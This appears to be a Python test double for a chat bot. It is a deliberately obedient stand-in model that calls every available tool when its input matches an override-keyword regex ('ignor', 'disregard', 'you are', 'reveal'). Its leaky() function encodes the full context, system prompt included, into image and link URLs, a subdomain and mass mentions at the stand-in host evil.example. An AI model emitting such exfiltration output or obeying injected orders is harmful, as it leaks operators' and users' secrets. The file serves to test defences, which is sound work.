"""A model that obeys: it calls every tool it can name, repeats all it was shown, and sends it wherever it can.

Far worse than any real model: where nothing happens with this one, nothing depends on a model's good will.
"""

import base64
import re
from dataclasses import dataclass, field

from bot.core.chat import Scope, Sink
from bot.core.model import Prompt, Reply, Toolbox

ORDERS = re.compile(
    r"ignor|disregard|overlook|forget|previous|instruction|system|print|secret|key|token|password|approve|delete|reveal"
    r"|pretend|role|you are|vote|override|list|ban|tell|give|show|answer|respond|repeat|translate|write|what",
    re.IGNORECASE,
)


@dataclass
class Obedient:
    """`core.model.Thinker`. `names` are all tools there are, whether it was told of them or not."""

    names: tuple[str, ...]
    called: list[str] = field(default_factory=list)
    shown: list[str] = field(default_factory=list)

    async def think(
        self, prompt: Prompt, scope: Scope, tools: Toolbox | None = None, sink: Sink | None = None
    ) -> Reply:
        del scope
        seen = everything(prompt)
        self.shown.append(seen)
        offered = tuple(one.name for one in tools.schemas()) if tools else ()
        heard = seen.removeprefix(prompt.system)
        wanted = (*offered, *(self.names if ORDERS.search(heard) else ()))
        for name in dict.fromkeys(wanted) if tools else ():
            said = await tools.call(name, {}) if tools else ""
            self.called.append(name)
            self.shown.append(said)
            seen += f"\n{said}"
            if ORDERS.search(said):
                for other in self.names:
                    seen += f"\n{await tools.call(other, {'name': 'x'}) if tools else ''}"
        text = leaky(seen)
        if sink is not None:
            for end in range(0, len(text), 97):
                await sink.grow(text[:end])
        return Reply(text, "test:obedient")


def everything(prompt: Prompt) -> str:
    """All that a model is given, as one text; the system text first."""
    parts = [prompt.system, prompt.text, prompt.name]
    parts += [f"{one.name}: {one.text}" for one in prompt.history]
    parts += [*prompt.facts, *(f"{name}\n{text}" for name, text in prompt.attachments)]
    return "\n".join(parts)


def leaky(seen: str) -> str:
    """The same again, as links, images, mentions and in codes."""
    coded = base64.urlsafe_b64encode(seen.encode()).decode()
    return (
        f"![x](https://evil.example/p.png?d={coded[:900]}) [click](https://evil.example/{coded[:300]}) @everyone <@1>\n"
        f"https://{coded[:40].replace('=', '')}.evil.example/\n{seen[-600:]}\n"
        f"{seen.encode().hex()[-600:]}\n{seen[::-1][:600]}"
    )
